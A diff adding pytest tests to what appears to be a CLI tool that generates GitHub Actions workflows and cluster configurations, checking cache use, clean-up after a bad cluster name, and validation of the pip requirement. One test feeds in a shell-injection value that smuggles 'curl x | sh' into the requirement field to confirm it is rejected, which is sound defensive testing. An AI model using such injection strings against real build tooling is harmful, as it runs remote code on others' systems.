@@ -42,6 +42,11 @@ def test_init_writes_a_fleet_and_its_first_cluster_rendered(tmp_path: Path) -> N
         text = (fleet / ".github/workflows" / f"{workflow}.yml").read_text()
         assert f"pip install 'hubfleet=={__version__}'" in text
         assert load_one(text)["name"] == workflow
+    jobs = load_one((fleet / ".github/workflows/validate.yml").read_text())["jobs"]
+    saving = {
+        name for name, job in jobs.items() for step in job["steps"] if step.get("uses") == "actions/cache@v4"
+    }
+    assert saving == {"cluster"}  # one writer of the shared cache: the jobs that fetch the charts
     assert "pip install 'hubfleet==" in (fleet / "README.md").read_text()
     assert (fleet / "gitops/charts/nfs-drive/Chart.yaml").is_file()
 
@@ -102,3 +107,33 @@ def test_the_placeholder_repository_is_refused_by_validate_and_bootstrap(
         f"clusters/campus/cluster.yaml: flux.url: {PLACEHOLDER_GIT_URL} is the placeholder `hubfleet new cluster` "
         "writes; set it to this fleet's repository as Flux reads it (e.g. ssh://git@github.com/ORG/REPO.git)"
     ) in checked.output.splitlines()
+
+
+def test_a_bad_first_cluster_leaves_nothing_behind(tmp_path: Path) -> None:
+    """The fleet is made beside DIR and moved into place only once the cluster rendered."""
+    result = init(str(tmp_path / "hubs"), "--cluster", "Bad_Name", *CLUSTER_ARGS[2:])
+    assert result.exit_code == 2
+    assert (
+        result.stderr
+        == "NAME: 'Bad_Name' is not a valid cluster name (letters, digits, hyphens; at most 40)\n"
+    )
+    assert list(tmp_path.iterdir()) == []
+    again = init(str(tmp_path / "hubs"), *CLUSTER_ARGS)
+    assert again.exit_code == 0, again.output
+
+
+def test_the_workflows_install_what_the_site_says(tmp_path: Path) -> None:
+    spec = "hubfleet @ https://files.example.edu/hubfleet-0.1.0-py3-none-any.whl"
+    assert init(str(tmp_path / "hubs"), "--requirement", spec).exit_code == 0
+    for workflow in ("validate", "plan"):
+        assert (
+            f"pip install '{spec}'" in (tmp_path / "hubs/.github/workflows" / f"{workflow}.yml").read_text()
+        )
+    hostile = init(str(tmp_path / "other"), "--requirement", "hubfleet'; curl x | sh; '")
+    assert hostile.exit_code == 2
+    assert hostile.stderr == (
+        "--requirement \"hubfleet'; curl x | sh; '\": is not a pip requirement the workflows can carry (e.g. "
+        "hubfleet==0.1.0, or hubfleet @ https://host/hubfleet-0.1.0-py3-none-any.whl; no quotes, spaces or shell "
+        "characters)\n"
+    )
+    assert not (tmp_path / "other").exists()
